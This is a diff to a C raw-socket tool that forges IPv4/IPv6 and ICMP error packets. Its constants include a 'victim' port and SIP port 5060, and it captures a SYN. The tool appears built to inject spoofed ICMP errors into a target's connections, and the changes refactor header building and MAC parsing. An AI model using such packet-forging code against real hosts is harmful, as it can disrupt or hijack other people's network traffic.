@@ -39,9 +39,9 @@
 #include <linux/if_packet.h>
 #include <net/ethernet.h>
 #include <net/if.h>
+#include <netinet/ether.h>
 #include <netinet/icmp6.h>
 #include <netinet/in.h>
-#include <netinet/ip.h>
 #include <netinet/ip6.h>
 #include <netinet/ip_icmp.h>
 #include <netinet/tcp.h>
@@ -66,6 +66,7 @@
 #define UNDER_WAY 448
 #define WAIT_MS 5000
 
+#define IPV4_HEADER 20		/* no options */
 #define PAYLOAD 400
 #define UDP_PORT 5060
 #define VICTIM_PORT 40000
@@ -174,14 +175,16 @@ static void append_ip(struct packet *p, const struct address *src,
 		      const struct address *dst, uint8_t proto, size_t len)
 {
 	struct ip6_hdr ip6 = { .ip6_nxt = proto, .ip6_hlim = 64 };
-	struct ip ip = { .ip_v = 4, .ip_hl = 5, .ip_ttl = 64, .ip_p = proto };
+	uint16_t total = htons((uint16_t)(IPV4_HEADER + len)), check;
+	unsigned char ip[IPV4_HEADER] = { 0x45, [8] = 64, [9] = proto };
 
 	if (src->family == AF_INET) {
-		ip.ip_len = htons((uint16_t)(sizeof(ip) + len));
-		memcpy(&ip.ip_src, src->bytes, 4);
-		memcpy(&ip.ip_dst, dst->bytes, 4);
-		ip.ip_sum = fold(sum(&ip, sizeof(ip), 0));
-		append(p, &ip, sizeof(ip));
+		memcpy(ip + 2, &total, sizeof(total));
+		memcpy(ip + 12, src->bytes, 4);
+		memcpy(ip + 16, dst->bytes, 4);
+		check = fold(sum(ip, sizeof(ip), 0));
+		memcpy(ip + 10, &check, sizeof(check));
+		append(p, ip, sizeof(ip));
 	} else {
 		ip6.ip6_flow = htonl(6u << 28);
 		ip6.ip6_plen = htons((uint16_t)len);
@@ -204,7 +207,7 @@ static void build_error(struct packet *p)
 	uint16_t ports[2] = { htons(udp ? UDP_PORT : VICTIM_PORT),
 			      htons(server_port()) };
 	uint16_t len[2] = { htons(udp ? 8 + PAYLOAD : 0) };
-	size_t quoted = (v4 ? sizeof(struct ip) : sizeof(struct ip6_hdr)) + 8;
+	size_t quoted = (v4 ? IPV4_HEADER : sizeof(struct ip6_hdr)) + 8;
 	size_t at;
 
 	append_ip(p, &o.from, &o.to, v4 ? IPPROTO_ICMP : IPPROTO_ICMPV6,
@@ -355,7 +358,8 @@ static void read_events(void)
 	clearerr(events);
 	while (fgets(line, sizeof(line), events)) {
 		if (!strchr(line, '\n')) {
-			fseek(events, at, SEEK_SET);
+			if (fseek(events, at, SEEK_SET) != 0)
+				fail("--events");
 			return;
 		}
 		at = ftell(events);
@@ -532,7 +536,7 @@ static uint32_t capture_syn(int fd)
 	bool v4 = o.to.family == AF_INET;
 	unsigned char buf[256];
 	struct tcphdr th;
-	size_t at = v4 ? sizeof(struct ip) : sizeof(struct ip6_hdr);
+	size_t at = v4 ? IPV4_HEADER : sizeof(struct ip6_hdr);
 
 	for (;;) {
 		ssize_t n = recv(fd, buf, sizeof(buf), 0);
@@ -735,13 +739,11 @@ static struct address parse_address(const char *text)
 
 static void parse_mac(const char *text)
 {
-	unsigned int b[6], i;
+	const struct ether_addr *mac = ether_aton(text);
 
-	if (sscanf(text, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4],
-		   &b[5]) != 6)
+	if (!mac)
 		usage("--mac");
-	for (i = 0; i < 6; i++)
-		o.mac[i] = (unsigned char)b[i];
+	memcpy(o.mac, mac, sizeof(o.mac));
 }
 
 static const struct option options[] = {
